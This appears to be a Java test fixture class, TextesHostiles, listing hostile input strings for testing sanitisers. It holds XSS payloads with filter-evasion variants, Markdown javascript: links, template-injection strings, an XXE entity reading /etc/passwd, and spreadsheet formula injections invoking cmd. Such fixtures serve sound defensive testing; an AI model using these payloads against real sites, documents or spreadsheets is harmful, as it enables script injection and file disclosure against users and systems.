package fr.copil.essai;

import java.util.stream.Stream;

/** What somebody types to make a page, a document, a spreadsheet or a message run it. */
public final class TextesHostiles {

    private TextesHostiles() {}

    public static Stream<String> tous() {
        return """
                <script>alert(1)</script>
                <SCRIPT SRC=//exemple.fr/x.js></SCRIPT>
                <scr<script>ipt>alert(1)</scr</script>ipt>
                <img src=x onerror=alert(1)>
                <IMG \"""><SCRIPT>alert(1)</SCRIPT>">
                <img src="javascript:alert(1)">
                <svg onload=alert(1)>
                <svg><script>alert(1)</script></svg>
                <svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>
                <svg><animate onbegin=alert(1) attributeName=x dur=1s>
                <math><mtext></p><img src=x onerror=alert(1)></math>
                <iframe src="javascript:alert(1)"></iframe>
                <iframe srcdoc="<script>alert(1)</script>"></iframe>
                <object data="javascript:alert(1)"></object>
                <embed src="javascript:alert(1)">
                <body onload=alert(1)>
                <input autofocus onfocus=alert(1)>
                <select autofocus onfocus=alert(1)>
                <textarea autofocus onfocus=alert(1)>
                <details open ontoggle=alert(1)>
                <video><source onerror=alert(1)></video>
                <audio src=x onerror=alert(1)>
                <marquee onstart=alert(1)>
                <a href="javascript:alert(1)">ici</a>
                <a href="java&#115;cript:alert(1)">ici</a>
                <a href="data:text/html,<script>alert(1)</script>">ici</a>
                <form action="javascript:alert(1)"><button>ici</button></form>
                <button formaction=javascript:alert(1)>ici</button>
                <link rel=stylesheet href="javascript:alert(1)">
                <meta http-equiv=refresh content="0;url=javascript:alert(1)">
                <base href="javascript:alert(1)//">
                <style>@import 'javascript:alert(1)';</style>
                <div style="background:url(javascript:alert(1))">ici</div>
                <template><script>alert(1)</script></template>
                <noscript><p title="</noscript><img src=x onerror=alert(1)>">
                <!--><script>alert(1)</script-->
                <![CDATA[<script>alert(1)</script>]]>
                <?xml version="1.0"?><script>alert(1)</script>
                <!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e; alert(1)</x>
                &lt;script&gt;alert(1)&lt;/script&gt;
                "><script>alert(1)</script>
                '><script>alert(1)</script>
                ' onmouseover='alert(1)
                " onmouseover="alert(1)
                </title><script>alert(1)</script>
                </textarea><script>alert(1)</script>
                [ici](javascript:alert(1))
                [ici](JaVaScRiPt:alert(1))
                [ici](javascript&#58;alert(1))
                [ici](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg== "alert(1)")
                [ici](vbscript:alert(1))
                [ici](https://exemple.fr/"onmouseover="alert(1))
                ![ici](javascript:alert(1))
                <javascript:alert(1)>
                [alert(1)]: javascript:alert(1)
                `<script>alert(1)</script>`
                **<img src=x onerror=alert(1)>**
                {{constructor.constructor('alert(1)')()}}
                ${alert(1)} #{alert(1)} <%= alert(1) %>
                =HYPERLINK("javascript:alert(1)";"ici")
                =cmd|'/c calc'!A1 alert(1)
                +cmd|'/c calc'!A1 alert(1)
                -cmd|'/c calc'!A1 alert(1)
                @SUM(1+1)*cmd|'/c calc'!A1 alert(1)
                """
                .lines();
    }
}
